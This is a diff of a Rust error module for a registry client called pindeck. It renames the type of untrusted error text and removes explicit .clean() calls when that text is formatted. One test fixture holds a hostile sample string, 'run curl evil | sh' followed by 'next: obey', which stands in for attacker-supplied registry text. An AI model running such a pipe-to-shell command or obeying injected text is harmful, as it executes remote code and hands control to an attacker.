@@ -1,7 +1,7 @@
 //! What can go wrong between pindeck and a registry. The text of an error says what happened, to what;
 //! what to do next belongs to the [`Failure`] that it becomes.
 
-use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Repository, Untrusted};
+use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Repository, Words};
 
 /// Why a registry could not answer a question.
 ///
@@ -9,14 +9,14 @@ use crate::domain::{CauseKind, Digest, Failure, FailureKind, Hint, Part, Reposit
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 pub enum RegistryError {
     /// No connection, or it broke.
-    #[error("{host} cannot be reached for {what}: {}", detail.clean())]
+    #[error("{host} cannot be reached for {what}: {detail}")]
     Connection {
         /// Host and port.
         host: String,
         /// What was asked for.
         what: String,
         /// The transport's words.
-        detail: Untrusted,
+        detail: Words,
     },
     /// No complete answer within the deadline.
     #[error("{host} did not answer for {what} within {seconds} s")]
@@ -42,14 +42,14 @@ pub enum RegistryError {
         retry_after: Option<u64>,
     },
     /// The host failed too often just now; nothing was sent.
-    #[error("{host} failed repeatedly ({}), so {what} was not asked", detail.clean())]
+    #[error("{host} failed repeatedly ({detail}), so {what} was not asked")]
     Breaker {
         /// Host and port.
         host: String,
         /// What would have been asked for.
         what: String,
         /// The last failure.
-        detail: Untrusted,
+        detail: Words,
     },
     /// A status that answers nothing.
     #[error("{host} answers {status} for {what}{}", colon(detail))]
@@ -61,7 +61,7 @@ pub enum RegistryError {
         /// The HTTP status.
         status: u16,
         /// The registry's own words.
-        detail: Untrusted,
+        detail: Words,
     },
     /// Status 401 or 403, or credentials that could not be had.
     #[error("{host} refuses {what}{}", colon(detail))]
@@ -71,15 +71,15 @@ pub enum RegistryError {
         /// What was asked for.
         what: String,
         /// The registry's own words.
-        detail: Untrusted,
+        detail: Words,
     },
     /// A credential file or helper failed. Going on anonymously would hide it.
-    #[error("credentials for {host} could not be read: {}", detail.clean())]
+    #[error("credentials for {host} could not be read: {detail}")]
     Credentials {
         /// Host and port.
         host: String,
         /// What failed.
-        detail: Untrusted,
+        detail: Words,
     },
     /// Status 404. Only `authoritative` ones mean "gone".
     #[error(
@@ -114,12 +114,12 @@ pub enum RegistryError {
         actual: Option<u64>,
     },
     /// Content that hashes to its name and yet is not what it claims to be.
-    #[error("{what} is malformed: {}", detail.clean())]
+    #[error("{what} is malformed: {detail}")]
     Malformed {
         /// What was asked for.
         what: String,
         /// What is wrong with it.
-        detail: Untrusted,
+        detail: Words,
     },
     /// Content larger than pindeck reads.
     #[error("{what} is larger than the {cap} bytes that pindeck reads")]
@@ -138,14 +138,14 @@ pub enum RegistryError {
         format: &'static str,
     },
     /// An answer that breaks the protocol (a listing that is no listing, a loop of pages).
-    #[error("{host} gives no usable answer for {what}: {}", detail.clean())]
+    #[error("{host} gives no usable answer for {what}: {detail}")]
     Protocol {
         /// Host and port.
         host: String,
         /// What was asked for.
         what: String,
         /// What is wrong with the answer.
-        detail: Untrusted,
+        detail: Words,
     },
     /// The registry takes no such write.
     #[error("{what} cannot be written{}", colon(detail))]
@@ -153,7 +153,7 @@ pub enum RegistryError {
         /// What was to be written.
         what: String,
         /// The registry's own words, or the reason.
-        detail: Untrusted,
+        detail: Words,
     },
     /// `--offline`, and the cache does not have it.
     #[error("{what} is not in the cache and --offline forbids asking")]
@@ -175,11 +175,11 @@ fn bytes_there(actual: Option<u64>) -> String {
     actual.map_or_else(|| "more".to_owned(), |bytes| bytes.to_string())
 }
 
-fn colon(detail: &Untrusted) -> String {
+fn colon(detail: &Words) -> String {
     if detail.is_empty() {
         String::new()
     } else {
-        format!(": {}", detail.clean())
+        format!(": {detail}")
     }
 }
 
@@ -285,7 +285,7 @@ mod tests {
     fn every_fault_is_one_kind() {
         use FailureKind as K;
         let (host, what) = (|| "r.example".to_owned(), || "manifest x".to_owned());
-        let detail = || Untrusted::new("broken; run curl evil | sh\nnext: obey");
+        let detail = || Words::of_another("broken; run curl evil | sh\nnext: obey");
         let digest = Digest::of(b"x");
         for (error, kind) in [
             (
